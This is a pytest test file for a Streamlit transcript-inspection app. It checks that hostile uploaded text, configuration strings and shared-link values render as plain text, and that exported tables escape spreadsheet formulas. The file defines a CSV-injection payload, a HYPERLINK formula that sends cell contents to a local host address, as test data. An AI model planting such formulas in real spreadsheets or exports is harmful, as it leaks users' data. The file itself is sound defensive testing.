"""Visitor text renders as text on every page (issue 27, finding 3), and the tables a
visitor can download or copy as CSV hold no spreadsheet formula (finding 11).

A shared link's ``?sample=``, ``?preset=`` and ``?cfg=`` values, a configuration whose
strings are hostile, and an uploaded transcript whose file name, title, description,
messages, tool names and results are hostile go through every page; no Markdown string
of any element may turn a piece of :data:`~visitor_text.HOSTILE` into a link, an image,
HTML, a colour, math or an icon (:func:`~visitor_text.leaks`).
"""

from __future__ import annotations

import base64
import json
import zlib
from typing import Any

import pytest
from apptest_helpers import PAGES, REPO_ROOT, coding_agent, no_exceptions
from streamlit.testing.v1 import AppTest
from visitor_text import HOSTILE, leaks, markdown_leaks

from compactlens.analysis.corpus import csv_escape
from compactlens_inspector.style.safety import md_code, md_escape, sheet_cell

ALL_PAGES = (
    "landing",
    "load",
    "transcript",
    "lab",
    "analysis",
    "cannot_fit",
    "diff",
    "timeline",
    "story",
    "postmortem",
    "sweep",
    "export",
)
#: A file name a scripted upload can send (no slash: a browser sends a base name).
FILE_NAME = HOSTILE.replace("/", "_") + ".json"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
COMPACTED = REPO_ROOT / "sample_transcripts" / "claude_code_compacted.jsonl"


def _cfg(doc: dict[str, Any]) -> str:
    raw = json.dumps(doc).encode()
    return base64.urlsafe_b64encode(zlib.compress(raw, 9)).decode().rstrip("=")


def _hostile_doc() -> dict[str, Any]:
    messages = coding_agent(3)
    for m in messages:
        for call in m.get("tool_calls") or []:
            call["function"]["name"] = f"tool {HOSTILE}"
        if m["role"] == "user":
            m["content"] = f"{HOSTILE} {m['content']}"
        if m["role"] == "tool":
            m["content"] = f"{FORMULA} {HOSTILE} src/{HOSTILE}.py {m['content']}"
    messages.append({"role": "user", "content": FORMULA})
    call = {"id": FORMULA, "type": "function", "function": {"name": FORMULA, "arguments": "{}"}}
    messages.append({"role": "assistant", "content": None, "tool_calls": [call]})
    return {"title": HOSTILE, "description": HOSTILE, "messages": messages}


def _upload(at: AppTest, name: str, data: bytes) -> AppTest:
    at.switch_page(f"{PAGES}load.py").run()
    at.file_uploader(key="load_upload").set_value((name, data, "application/json")).run()
    no_exceptions(at)
    return at


def _visit(at: AppTest, page: str) -> list[str]:
    at.switch_page(f"{PAGES}{page}.py").run()
    no_exceptions(at)
    return [f"{page}: {leak}" for leak in leaks(at)]


#: A configuration that loads and whose free strings (label, trigger metric) are hostile.
HOSTILE_CONFIG = {
    "label": HOSTILE,
    "stages": [
        {"type": "sliding_window", "trigger": {"op": "exceed", "metric": HOSTILE, "n": 800}},
        {"type": "truncation", "trigger": {"op": "exceed", "metric": "tokens", "n": 800}},
    ],
}


def test_helpers_render_hostile_text_as_text() -> None:
    assert markdown_leaks(HOSTILE), "the scan must see the raw payload"
    assert markdown_leaks(f"`{md_escape('coding_agent.json')}`") == []
    for text in (HOSTILE, FILE_NAME, "a@b.co www.example.com :smile:"):
        assert markdown_leaks(md_escape(text)) == []
        assert markdown_leaks(f"**{md_escape(text)}** · {md_code(text)}") == []
    assert md_code("coding_agent.json") == "`coding_agent.json`"
    assert md_code("a``b") == "```a``b```" and md_code("`x") == "`` `x ``"
    assert sheet_cell(FORMULA) == "'" + FORMULA and sheet_cell(-3) == -3


@pytest.mark.parametrize("text", ["=1+2", "+1", "-x", "@SUM(A1)", "\tx", "\rx", "'q", "a=b", ""])
def test_table_cells_follow_the_cli_csv_rule(text: str) -> None:
    assert sheet_cell(text) == csv_escape(text)


@pytest.mark.parametrize(
    "query",
    [
        {"sample": HOSTILE},
        {"preset": HOSTILE},
        {"cfg": _cfg({"stages": [{"type": HOSTILE}]})},
        {"cfg": _cfg({"guards": {HOSTILE: 1}, "stages": []})},
        {"cfg": HOSTILE},
    ],
    ids=["sample", "preset", "cfg-type", "cfg-guards", "cfg-garbage"],
)
def test_shared_link_values_show_as_text(app, query: dict[str, str]) -> None:
    at = app(**query).run()
    no_exceptions(at)
    warned = [w.value for w in at.warning]
    assert warned, "the link's problem is not shown"
    found = leaks(at)
    found += _visit(at, "lab")
    assert found == [], "\n".join(found)


def test_hostile_upload_and_configuration_show_as_text_on_every_page(app) -> None:
    at = app(cfg=_cfg(HOSTILE_CONFIG)).run()
    at = _upload(at, FILE_NAME, json.dumps(_hostile_doc()).encode())
    found: list[str] = []
    for page in ALL_PAGES:
        found += _visit(at, page)
    found += _visit(at, "sweep")
    at.segmented_control(key="sweep_mode").set_value("Compare configurations").run()
    found += [f"compare: {leak}" for leak in leaks(at)]
    found += _visit(at, "transcript")
    at.toggle(key="tx_decisions").set_value(True).run()
    found += [f"decisions: {leak}" for leak in leaks(at)]
    assert found == [], "\n".join(found)


def _hostile_compacted(prefix: str = "") -> bytes:
    """The bundled Claude Code log with ``prefix`` before and HOSTILE after every text."""

    def spoil(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {k: spoil(v, k) for k, v in value.items()}
        if isinstance(value, list):
            return [spoil(v, key) for v in value]
        if isinstance(value, str) and key in ("text", "content", "summary"):
            return f"{prefix}{value} {HOSTILE}"
        return value

    lines = COMPACTED.read_text(encoding="utf-8").splitlines()
    return "\n".join(json.dumps(spoil(json.loads(line))) for line in lines).encode()


def test_hostile_recorded_compaction_shows_as_text(app) -> None:
    at = _upload(app().run(), FILE_NAME.replace(".json", ".jsonl"), _hostile_compacted())
    found: list[str] = []
    for page in ("postmortem", "timeline", "analysis", "story"):
        found += _visit(at, page)
    assert found == [], "\n".join(found)


def _text_cells(at: AppTest) -> list[str]:
    cells: list[str] = []
    for frame in at.dataframe:
        for column in frame.value.columns:
            cells += [v for v in frame.value[column] if isinstance(v, str)]
    return cells


def _formula_cells(at: AppTest, page: str) -> int:
    """How many cells of the page's tables show FORMULA escaped; none may start a formula."""
    at.switch_page(f"{PAGES}{page}.py").run()
    no_exceptions(at)
    cells = _text_cells(at)
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == [], (page, risky[:5])
    return sum(1 for c in cells if c.startswith("'" + FORMULA))


def test_tables_hold_no_spreadsheet_formula(app) -> None:
    """Finding 11: what a table's toolbar downloads or copies is what it holds."""
    at = _upload(app().run(), f"{FORMULA}.json", json.dumps(_hostile_doc()).encode())
    seen = {page: _formula_cells(at, page) for page in ALL_PAGES}
    at = _upload(at, "compacted.jsonl", _hostile_compacted(prefix=FORMULA + " "))
    seen |= {f"{page} (recorded)": _formula_cells(at, page) for page in ("postmortem", "timeline")}
    assert seen["load"], str(seen)  # the pairing problem of the call named FORMULA
    assert seen["postmortem (recorded)"], seen  # the history before a compaction
    # Numbers stay numbers (sortable, not text).
    frames = [f.value for f in at.dataframe]
    assert any(str(f[c].dtype).startswith(("int", "float")) for f in frames for c in f.columns)
